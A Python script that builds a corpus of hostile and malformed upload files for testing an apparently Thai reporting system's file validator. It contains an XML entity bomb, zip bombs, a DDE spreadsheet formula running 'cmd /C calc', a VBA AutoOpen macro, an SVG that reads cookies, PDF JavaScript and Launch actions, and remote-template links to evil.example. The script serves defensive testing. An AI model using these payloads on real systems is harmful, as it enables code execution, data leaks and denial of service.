"""Builds the hostile and broken files of the bad-input corpus (tests/test_bad_input.py).

    .venv/bin/python tests/bad_input/make_corpus.py    # rewrites the files beside this script

The small files are committed so that anyone can open them; the few that must be large to mean
anything (over the upload limits, a zip that unpacks to tens of megabytes) are built by the
functions at the end while the tests run, so that the repository stays small.
"""

import io
import struct
import sys
import zipfile
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).resolve().parent


def pdf(*objects):
    """A PDF of the given object bodies (object 1 the catalogue), with a correct
    cross-reference table, so that pypdf reads it as a real viewer would."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R%s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]%s >>"
# One blank A4 page: the harmless PDF of every test.
PDF = pdf(CATALOG % b"", PAGES, PAGE % b"")
HEADER = ["ตัวชี้วัด", "มาตรการ/โครงการ/กิจกรรม", "ความก้าวหน้า (%)"]


def workbook(rows, merges=()):
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    for cells in merges:
        sheet.merge_cells(cells)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewrite_members(data, members):
    """The same zip package with some members' bytes replaced or added ({name: bytes})."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in members:
                target.writestr(info.filename, source.read(info.filename))
        for name, content in members.items():
            target.writestr(name, content)
    return out.getvalue()


def package(members, compression=zipfile.ZIP_DEFLATED):
    """A zip of {name: content}, dated so that the same members always give the same bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as target:
        for name, content in members.items():
            target.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), content, compression)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def billion_laughs():
    """A sheet whose XML defines entities that expand to gigabytes ("billion laughs")."""
    entities = ['<!ENTITY a0 "ฮ่าฮ่าฮ่าฮ่าฮ่า">'] + [
        f'<!ENTITY a{n} "{("&a" + str(n - 1) + ";") * 10}">' for n in range(1, 10)
    ]
    xml = (
        '<?xml version="1.0"?><!DOCTYPE worksheet [' + "".join(entities) + "]>"
        f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c>'
        "</row></sheetData></worksheet>"
    )
    return rewrite_members(workbook([HEADER]), {SHEET: xml.encode()})


def malformed_sheet_xml():
    return rewrite_members(workbook([HEADER, ["ตัวชี้วัดที่ ๙", "ก", 1]]), {SHEET: b"<worksheet><sheetData><row>"})


def truncated():
    data = workbook([HEADER] + [["ตัวชี้วัดที่ ๙", f"มาตรการ {n}", n] for n in range(20)])
    return data[: len(data) // 2]


def corrupt_deflate_odt():
    """An OpenDocument file whose compressed "mimetype" member is garbage (zlib fails on it)."""
    data = bytearray(package({
        "mimetype": "application/vnd.oasis.opendocument.text" * 20,
        "content.xml": "<office:document-content/>",
    }))
    start = data.index(b"mimetype") + len(b"mimetype")  # the first member's data follows its name
    data[start + 2:start + 30] = b"\xff" * 28
    return bytes(data)


def pdf_with(catalog=b"", page=b"", *more):
    return pdf(CATALOG % catalog, PAGES, PAGE % page, *more)


# Old-format Office files: OLE2 compound files (MS-CFB version 3), written here because olefile
# only reads them.
FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
SECTOR = 512
MINI_STREAM_CUTOFF = 4096


def compound_file(streams):
    """A compound file holding {"Macros/VBA/dir": bytes, ...}; the storages on each path are
    made as needed. Every stream is padded to the 4,096 bytes from which streams live in
    ordinary sectors, so that no mini stream is needed."""
    entries = [{"name": "Root Entry", "type": 5, "children": [], "data": b""}]
    index = {"": 0}
    for path, data in streams.items():
        parts = path.split("/")
        for depth in range(1, len(parts) + 1):
            key = "/".join(parts[:depth])
            if key in index:
                continue
            is_stream = depth == len(parts)
            size = max(MINI_STREAM_CUTOFF, -(-len(data) // SECTOR) * SECTOR)
            index[key] = len(entries)
            entries.append({"name": parts[depth - 1], "type": 2 if is_stream else 1, "children": [],
                            "data": data.ljust(size, b"\0") if is_stream else b""})
            entries[index["/".join(parts[:depth - 1])]]["children"].append(index[key])
    directory_sectors = -(-len(entries) // 4)
    data_sectors = sum(len(entry["data"]) // SECTOR for entry in entries)
    fat_sectors = 1
    while fat_sectors * 128 < fat_sectors + directory_sectors + data_sectors:
        fat_sectors += 1
    fat = [FATSECT] * fat_sectors

    def chain(count):
        start = len(fat)
        fat.extend(range(start + 1, start + count))
        fat.append(ENDOFCHAIN)
        return start

    directory_start = chain(directory_sectors)
    for entry in entries:
        entry["start"] = chain(len(entry["data"]) // SECTOR) if entry["data"] else ENDOFCHAIN
    fat += [FREESECT] * (fat_sectors * 128 - len(fat))
    # Siblings as a chain of right links in the order the format sorts names (length, then
    # upper case); every node black, which readers accept.
    siblings = {}
    for entry in entries:
        ordered = sorted(entry["children"], key=lambda i: (len(entries[i]["name"]), entries[i]["name"].upper()))
        entry["child"] = ordered[0] if ordered else NOSTREAM
        siblings.update(zip(ordered, ordered[1:] + [NOSTREAM]))
    directory = b""
    for number, entry in enumerate(entries):
        name = entry["name"].encode("utf-16-le") + b"\0\0"
        directory += struct.pack("<64sHBBIII16sIQQIQ", name, len(name), entry["type"], 1, NOSTREAM,
                                 siblings.get(number, NOSTREAM), entry["child"], b"", 0, 0, 0,
                                 entry["start"], len(entry["data"]))
    free = struct.pack("<64sHBBIII16sIQQIQ", b"", 0, 0, 0, NOSTREAM, NOSTREAM, NOSTREAM, b"", 0, 0, 0, 0, 0)
    directory += free * (directory_sectors * 4 - len(entries))
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"", 0x3E, 3, 0xFFFE,
                         9, 6, b"", 0, fat_sectors, directory_start, 0, MINI_STREAM_CUTOFF, ENDOFCHAIN, 0,
                         ENDOFCHAIN, 0)
    header += struct.pack("<109I", *(list(range(fat_sectors)) + [FREESECT] * (109 - fat_sectors)))
    body = struct.pack(f"<{len(fat)}I", *fat) + directory + b"".join(entry["data"] for entry in entries)
    return header + body


# A Word 97 file's first bytes: the FIB's magic number (0xA5EC) and version; flags all clear.
WORD_FIB = struct.pack("<HHHHH", 0xA5EC, 0x00C1, 0, 0x0409, 0)


def biff_record(record, body=b""):
    return struct.pack("<HH", record, len(body)) + body


def workbook_stream(sheet_type):
    """An Excel 97 workbook's globals: BOF, one BoundSheet8 of the given type, EOF."""
    name = b"\x06\x00Sheet1"
    return (biff_record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
            + biff_record(0x0085, struct.pack("<IBB", 0, 0, sheet_type) + name)
            + biff_record(0x000A))


def ppt_stream(with_vba):
    """A PowerPoint 97 document stream: a DocumentContainer, with a VBAInfoContainer inside."""
    inner = b""
    if with_vba:
        atom = struct.pack("<HHI", 0x0000, 0x0400, 12) + struct.pack("<III", 0, 0, 2)
        inner = struct.pack("<HHI", 0x001F, 0x03FF, len(atom)) + atom
    return struct.pack("<HHI", 0x000F, 0x03E8, len(inner)) + inner


VBA_PROJECT = {"Macros/PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
               "Macros/VBA/dir": b"\x01" + b"\x00" * 64,
               "Macros/VBA/ThisDocument": (b"Attribute VB_Name = \"ThisDocument\"\r\n"
                                           b"Sub AutoOpen()\r\nShell \"calc.exe\"\r\nEnd Sub\r\n"),
               "Macros/VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00"}


def ooxml(extra=None, rels=None, document_rels=None, main="word/document.xml"):
    """A minimal Office Open XML package (a .docx unless `main` says otherwise)."""
    types = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
             b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
             b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
             b'</Types>')
    members = {
        "[Content_Types].xml": types,
        "_rels/.rels": relationships(rels or [("rId1", "officeDocument", main, "")]),
        main: b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
              b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>\xe0\xb8\xab\xe0\xb8\xa5\xe0\xb8\xb1\xe0\xb8\x81'
              b'\xe0\xb8\x90\xe0\xb8\xb2\xe0\xb8\x99</w:t></w:r></w:p></w:body></w:document>',
    }
    if document_rels is not None:
        folder, name = main.rsplit("/", 1)
        members[f"{folder}/_rels/{name}.rels"] = relationships(document_rels)
    members.update(extra or {})
    return package(members)


def relationships(items):
    """A relationships part of (id, type, target, target mode) tuples."""
    body = ""
    for id_, kind, target, mode in items:
        mode = f' TargetMode="{mode}"' if mode else ""
        body += (f'<Relationship Id="{id_}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                 f'relationships/{kind}" Target="{target}"{mode}/>')
    return (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships">{body}</Relationships>').encode()


FILES = {
    # Plan imports (.xlsx)
    "not_a_zip.xlsx": lambda: "ไฟล์นี้เป็นข้อความธรรมดา ไม่ใช่ Excel\n".encode(),
    "empty.xlsx": lambda: b"",
    "really_a_pdf.xlsx": lambda: PDF,
    "zip_of_text.xlsx": lambda: package({"readme.txt": "ไม่ใช่ Excel"}),
    "truncated.xlsx": truncated,
    "malformed_sheet_xml.xlsx": malformed_sheet_xml,
    "billion_laughs.xlsx": billion_laughs,
    "wrong_columns.xlsx": lambda: workbook([["ชื่อ", "ที่อยู่", "เบอร์โทร"], ["ก", "ข", "ค"]]),
    "header_below_row_30.xlsx": lambda: workbook([[f"หมายเหตุ {n}"] for n in range(30)] + [HEADER, ["ตัวชี้วัดที่ ๙", "ก", 1]]),
    "formula_cells.xlsx": lambda: workbook([
        HEADER,
        ["ตัวชี้วัดที่ ๙", "=cmd|' /C calc'!A0", 10],
        ["ตัวชี้วัดที่ ๙", '=HYPERLINK("http://evil.example/","คลิก")', "=1+1"],
    ]),
    "merged_chaos.xlsx": lambda: workbook(
        [HEADER, ["ตัวชี้วัดที่ ๙", "มาตรการ", 10], ["ตัวชี้วัดที่ ๙", "มาตรการสอง", 20]],
        merges=["A1:B2", "B3:C3"],
    ),
    "progress_as_text.xlsx": lambda: workbook([HEADER, ["ตัวชี้วัดที่ ๙", "มาตรการ", "ครึ่งหนึ่ง"]]),
    "mixed_digits_progress.xlsx": lambda: workbook([HEADER, ["ตัวชี้วัดที่ ๙", "มาตรการ", "๕0.๕"]]),
    # Onboarding files (.xlsx or .csv of organisations)
    "organisations_old_excel.xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
    "organisations_binary.csv": lambda: "ชื่อหน่วยงาน,อีเมลผู้ดูแลระบบ\n".encode() + b"\0\x01\x02" * 20,
    "organisations_undecodable.csv": lambda: b"\xdb\xdc\xdd\xde,\xfc\xfd\n",
    "organisations_wrong_columns.csv": lambda: "ชื่อ,ที่อยู่,เบอร์โทร\nอบต.ก,ข,ค\n".encode(),
    # Evidence files
    "script.svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
    "macro.odt": lambda: package({"mimetype": "application/vnd.oasis.opendocument.text",
                                  "content.xml": "<x/>", "Basic/Standard/Module1.xml": "<macro/>"}),
    "corrupt_deflate.odt": corrupt_deflate_odt,
    # Old-format Office files that carry code, or are not compound files at all
    "macro.doc": lambda: compound_file({"WordDocument": WORD_FIB, "1Table": b"", **VBA_PROJECT}),
    "macro_sheet.xls": lambda: compound_file({"Workbook": workbook_stream(sheet_type=1)}),
    "vba_project.xls": lambda: compound_file({
        "Workbook": workbook_stream(sheet_type=0),
        **{path.replace("Macros/", "_VBA_PROJECT_CUR/"): data for path, data in VBA_PROJECT.items()}}),
    "vba.ppt": lambda: compound_file({"PowerPoint Document": ppt_stream(with_vba=True), "Current User": b""}),
    "package_object.doc": lambda: compound_file({
        "WordDocument": WORD_FIB, "1Table": b"",
        "ObjectPool/_1234567890/\x01Ole10Native": b"\x10\x00\x00\x00payload.exe\x00MZ\x90\x00"}),
    "ole_signature_only.doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "ole_signature_then_junk.xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Workbook junk " * 200,
    # New-format Office files that carry code or fetch from outside
    "vba_project.docm": lambda: ooxml(extra={"word/vbaProject.bin": compound_file(VBA_PROJECT)}),
    "renamed_vba_project.docx": lambda: ooxml(extra={
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                               b'<Override PartName="/word/data.bin" '
                               b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        "word/data.bin": compound_file(VBA_PROJECT)}),
    "activex.docx": lambda: ooxml(extra={"word/activeX/activeX1.xml": b"<ax:ocx/>",
                                         "word/activeX/activeX1.bin": b"\0"}),
    "remote_template.docx": lambda: ooxml(document_rels=[("rId1", "settings", "settings.xml", "")], extra={
        "word/settings.xml": b"<w:settings/>",
        "word/_rels/settings.xml.rels": relationships([
            ("rId1", "attachedTemplate", "https://evil.example/template.dotm", "External")])}),
    "external_workbook_link.xlsx": lambda: ooxml(main="xl/workbook.xml", document_rels=[
        ("rId1", "externalLink", "externalLinks/externalLink1.xml", "")], extra={
        "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": relationships([
            ("rId1", "externalLinkPath", "file:///\\\\server\\share\\budget.xlsx", "External")])}),
    "remote_ole_object.docx": lambda: ooxml(document_rels=[
        ("rId5", "oleObject", "http://evil.example/payload.html!", "External")]),
    "local_file_hyperlink.docx": lambda: ooxml(document_rels=[
        ("rId5", "hyperlink", "file:///C:/Windows/System32/calc.exe", "External")]),
    "embedded_package.docx": lambda: ooxml(extra={"word/embeddings/oleObject1.bin": compound_file({
        "\x01Ole10Native": b"\x10\x00\x00\x00payload.exe\x00MZ\x90\x00"})}),
    # PDFs that run something, carry files, or only look like a PDF
    "javascript.pdf": lambda: pdf_with(b" /Names << /JavaScript 4 0 R >>", b"",
                                       b"<< /Names [(run) << /S /JavaScript /JS (app.alert(1)) >>] >>"),
    "javascript_hex_name.pdf": lambda: pdf_with(b" /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "open_action_uri.pdf": lambda: pdf_with(b" /OpenAction << /S /URI /URI (https://evil.example/seen) >>"),
    "launch.pdf": lambda: pdf_with(b"", b" /Annots [4 0 R]",
                                   b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
                                   b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"),
    "page_open_javascript.pdf": lambda: pdf_with(b"", b" /AA << /O 4 0 R >>",
                                                 b"<< /S /JavaScript /JS 5 0 R >>", b"(app.alert(1))"),
    "embedded_file.pdf": lambda: pdf_with(
        b" /Names << /EmbeddedFiles << /Names [(payload.exe) 4 0 R] >> >>", b"",
        b"<< /Type /Filespec /F (payload.exe) /EF << /F 5 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream"),
    "file_attachment_annotation.pdf": lambda: pdf_with(
        b"", b" /Annots [4 0 R]", b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (x.exe) >>"),
    "only_pdf_header.pdf": lambda: b"%PDF-1.7",
    "pdf_header_then_text.pdf": lambda: "%PDF-1.7\nนี่ไม่ใช่ PDF แค่ขึ้นต้นเหมือน PDF\n".encode() * 20,
}

# Benign files that must still be accepted (tests/test_uploads.py).
BENIGN = {
    "plain.doc": lambda: compound_file({"WordDocument": WORD_FIB, "1Table": b""}),
    "plain.xls": lambda: compound_file({"Workbook": workbook_stream(sheet_type=0)}),
    "plain.ppt": lambda: compound_file({"PowerPoint Document": ppt_stream(with_vba=False), "Current User": b""}),
    "hyperlink.docx": lambda: ooxml(document_rels=[
        ("rId5", "hyperlink", "https://www.wangmee.go.th/ita/o25", "External"),
        ("rId6", "hyperlink", "mailto:saraban@wangmee.go.th", "External")]),
    "go_to_page.pdf": lambda: pdf_with(b" /OpenAction [3 0 R /Fit]", b" /Annots [4 0 R]",
                                       b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
                                       b"/A << /S /URI /URI (https://www.wangmee.go.th/) >> >>"),
}


# Built while the tests run.
def zip_bomb_xlsx(unpacked_bytes):
    """A valid workbook whose sheet XML is padded with blanks to `unpacked_bytes` (it compresses
    a thousandfold: 600 MB to about 600 KB), written in chunks so that nothing holds it unpacked."""
    source = zipfile.ZipFile(io.BytesIO(workbook([HEADER])))
    head, tail = source.read(SHEET).split(b"</sheetData>")
    tail = b"</sheetData>" + tail
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != SHEET:
                target.writestr(info, source.read(info.filename))
        with target.open(SHEET, "w", force_zip64=True) as sheet:
            sheet.write(head)
            chunk, left = b" " * (8 * 1024 * 1024), unpacked_bytes - len(head) - len(tail)
            while left > 0:
                sheet.write(chunk[:left])
                left -= len(chunk)
            sheet.write(tail)
    return out.getvalue()


def many_members_docx(count):
    """A Word document with `count` empty parts besides its own."""
    return ooxml(extra={f"word/media/part{n}.xml": b"" for n in range(count)})


def huge_shared_strings_xlsx(strings=100_000, length=6_000):
    """A valid plan whose shared-string table holds `strings` unused entries (about 10 MB of
    XML, within the unpacked limit) and whose one row has an activity of `length` characters."""
    data = workbook([HEADER])
    source = zipfile.ZipFile(io.BytesIO(data))
    sheet = (
        f'<worksheet xmlns="{MAIN}"><sheetData><row r="1">'
        '<c r="A1" t="inlineStr"><is><t>ตัวชี้วัด</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>มาตรการ/โครงการ/กิจกรรม</t></is></c></row><row r="2">'
        '<c r="A2" t="inlineStr"><is><t>ตัวชี้วัดที่ ๙</t></is></c><c r="B2" t="s"><v>0</v></c>'
        "</row></sheetData></worksheet>"
    )
    table = (
        f'<sst xmlns="{MAIN}" count="{strings + 1}" uniqueCount="{strings + 1}"><si><t>{"ก" * length}</t></si>'
        + "".join(f"<si><t>ข้อความที่ไม่มีใครใช้ลำดับ {n:06d}</t></si>" for n in range(strings))
        + "</sst>"
    )
    types = source.read("[Content_Types].xml").decode().replace("</Types>", (
        '<Override PartName="/xl/sharedStrings.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'))
    rels = source.read("xl/_rels/workbook.xml.rels").decode().replace("</Relationships>", (
        '<Relationship Id="rIdStrings" Target="sharedStrings.xml" Type='
        '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/></Relationships>'))
    return rewrite_members(data, {
        SHEET: sheet.encode(), "xl/sharedStrings.xml": table.encode(),
        "[Content_Types].xml": types.encode(), "xl/_rels/workbook.xml.rels": rels.encode(),
    })


def mimetype_bomb_odt(unpacked_bytes):
    """An OpenDocument-looking zip whose "mimetype" member unpacks to `unpacked_bytes` zeros."""
    return package({"mimetype": b"\0" * unpacked_bytes, "content.xml": "<x/>"})


def main():
    for name, build in FILES.items():
        (HERE / name).write_bytes(build())
        print(f"{name}: {(HERE / name).stat().st_size} bytes")


if __name__ == "__main__":
    sys.exit(main())
